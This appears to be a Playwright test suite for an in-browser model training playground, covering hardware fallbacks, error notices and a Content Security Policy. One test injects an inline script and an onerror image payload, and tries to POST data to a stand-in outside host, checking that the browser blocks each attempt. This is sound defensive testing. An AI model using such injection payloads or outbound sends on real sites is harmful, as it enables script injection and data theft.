import { expect, type Page, test } from '@playwright/test';
import { plainOrigin } from './origins.ts';
import { Playground } from './playground.ts';
import { takeScreens } from './screens.ts';
import { without } from './without.ts';

test('without cross-origin isolation it says so, and trains on one thread', async ({ page }) => {
  const playground = await Playground.open(page, { labelled: '4', evaluateEvery: 1000 }, plainOrigin);
  await expect(playground.capabilities).toContainText('not cross-origin isolated');
  await expect(page.locator('.device-line')).toContainText(/1 thread|one thread/);
  await playground.play.click();
  await playground.stepsBeyond(1);
});

test('without WebGPU it says so, and trains on WebAssembly', async ({ page }) => {
  await without(page, 'webgpu');
  const playground = await Playground.open(page, { labelled: '4', evaluateEvery: 1000 });
  await expect(playground.capabilities).toContainText('no WebGPU');
  await expect(page.locator('.device-line')).toHaveAttribute('data-device', 'wasm');
  await playground.play.click();
  await playground.stepsBeyond(1);
});

test('with a GPU that fails it says so, and trains on WebAssembly', async ({ page }) => {
  await without(page, 'a GPU that works');
  const playground = await Playground.open(page, { labelled: '4', evaluateEvery: 1000 });
  const fails = /The GPU failed: .* So training runs on WebAssembly with .*, which is slower\./;
  await expect(playground.notices).toContainText(fails, { timeout: 60_000 });
  await expect(playground.notices).toContainText('Pause and reload the page to try the GPU again.');
  await expect(page.locator('.device-line')).toHaveAttribute('data-device', 'wasm');
  await expect(page.locator('.device-line')).toContainText(fails);
  await takeScreens(page, 'gpu-failed');
  await playground.play.click();
  await playground.stepsBeyond(1);
});

test('without SIMD it says so, and what can be done', async ({ page }) => {
  await without(page, 'simd');
  await page.goto('/');
  const playground = new Playground(page);
  await expect(playground.capabilities).toContainText('no SIMD');
  await expect(playground.capabilities).toContainText(/update this one|WebGPU/);
});

test('a worker that cannot be loaded is told, and the page stays usable', async ({ page }) => {
  await page.route(/worker[^/]*\.js/, (route) => route.abort());
  await page.goto('/?labelled=4');
  const playground = new Playground(page);
  await expect(playground.notices).toContainText('The engine could not be loaded.');
  await expect(playground.reset).toBeEnabled();
  await page.unroute(/worker[^/]*\.js/);
  await playground.reset.click();
  await expect(playground.play).toBeEnabled({ timeout: 90_000 });
});

test.describe('on one page', () => {
  let page: Page;
  let playground: Playground;
  const hosts = new Set<string>();
  const refused: string[] = [];
  test.beforeAll(async ({ browser }) => {
    page = await browser.newPage();
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.protocol.startsWith('http')) hosts.add(url.host);
    });
    page.on('console', (message) => {
      if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
    });
    const unusable = { batch: 99, colour: 'red', side: 150 };
    // Nothing slows down or holds back a learning rate that is too large.
    const reckless = { warmup: 0, clip: 1000, evaluateEvery: 1000 };
    playground = await Playground.open(page, { ...unusable, ...reckless, seed: 12 });
  });
  test.afterAll(() => page.close());

  test('a link with settings that cannot be used is told so, and the rest of it counts', async () => {
    await expect(playground.notices).toContainText('batch is 99, outside from 1 to 32.');
    await expect(playground.notices).toContainText('There is no setting called "colour"');
    await expect(playground.notices).toContainText('side is 150');
    await expect(page.getByRole('spinbutton', { name: 'Seed', exact: true })).toHaveValue('12');
    await expect(page.getByRole('spinbutton', { name: 'Batch', exact: true })).toHaveValue('4');
    await takeScreens(page, 'notices');
    await playground.notices.getByRole('button', { name: 'Dismiss' }).first().click();
    await expect(playground.notices).not.toContainText('batch is 99');
  });

  test('the page holds no inline script, asks no other host for anything, and lets nobody else do so', async () => {
    await playground.singleStep.click();
    await playground.stepsBeyond(0);
    expect([...hosts]).toEqual([new URL(page.url()).host]);
    expect(refused).toEqual([]);
    const answer = await page.request.get('/');
    const html = await answer.text();
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    expect(html).not.toMatch(/\son\w+=/);
    // In the page for hosts without headers, in the headers for its workers.
    expect(html).toContain('http-equiv="Content-Security-Policy"');
    expect(answer.headers()['content-security-policy']).toContain("default-src 'none'");

    const smuggled = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.smuggled = "script"';
      document.head.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="globalThis.smuggled = 1">');
      await new Promise((resolve) => setTimeout(resolve, 500));
      return 'smuggled' in globalThis;
    });
    expect(smuggled).toBe(false);
    const carriedOut = async () => {
      try {
        await fetch('https://elsewhere.example/', { method: 'POST', mode: 'no-cors', body: 'a label' });
        return 'sent';
      } catch (error) {
        return String(error);
      }
    };
    const [engine] = page.workers().filter((one) => one.url().includes('worker'));
    expect(await page.evaluate(carriedOut)).toMatch(/TypeError/);
    expect(await engine.evaluate(carriedOut)).toMatch(/TypeError/);
    // Each was stopped in the browser: not a word of it was on its way.
    expect([...hosts]).toEqual([new URL(page.url()).host]);
    expect(refused.length).toBeGreaterThan(2);
  });

  test('a worker that crashes is told in a sentence, and the same run stands again', async () => {
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await playground.play.click();
    await playground.stepsBeyond((await playground.step()) + 1);
    await page.workers()[0]?.evaluate(() => {
      setTimeout(() => {
        throw new Error('a test broke it');
      });
    });
    await expect(playground.notices).toContainText('The engine crashed: Error: a test broke it');
    await expect(playground.notices).toContainText('Press Play to train.');
    await playground.notices.getByRole('button', { name: 'Copy' }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('a test broke it');
    await expect(playground.play).toBeEnabled({ timeout: 90_000 });
    await expect(page.getByRole('spinbutton', { name: 'Seed', exact: true })).toHaveValue('12');
    const stands = await playground.step();
    await playground.play.click();
    await playground.stepsBeyond(stands);
    await playground.pause.click();
  });

  test('a learning rate that diverges stops with a sentence, and a reset recovers', async () => {
    const learningRate = page.getByRole('spinbutton', { name: 'Learning rate', exact: true });
    await learningRate.fill('1');
    await learningRate.press('Enter');
    await playground.dismissNotices();
    await playground.play.click();
    const error = playground.notices.locator('[data-level="error"]');
    await expect(error).toContainText(/Training diverged at step \d+: the loss is/, { timeout: 100_000 });
    await expect(error).toContainText('Lower the learning rate');
    await playground.reset.click();
    await expect.poll(() => playground.step()).toBe(0);
    await expect(playground.play).toBeEnabled({ timeout: 60_000 });
  });
});
